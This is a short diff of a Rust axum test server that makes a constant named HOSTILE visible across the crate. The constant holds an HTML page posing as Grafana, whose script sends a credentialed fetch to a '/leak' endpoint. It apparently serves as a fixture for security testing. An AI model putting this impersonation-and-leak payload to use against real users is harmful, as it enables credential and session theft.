@@ -59,7 +59,7 @@ async fn who(headers: axum::http::HeaderMap) -> Response {
         .into_response()
 }
 
-const HOSTILE: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8"><title>Grafana</title></head>
+pub(crate) const HOSTILE: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8"><title>Grafana</title></head>
 <body style="background:#111217;color:#ccc"><h1>hostile</h1><script>
 const leak = from => fetch('/leak?from=' + from, {credentials: 'include'}).catch(() => {});
 window.__grafanaSceneContext = {};
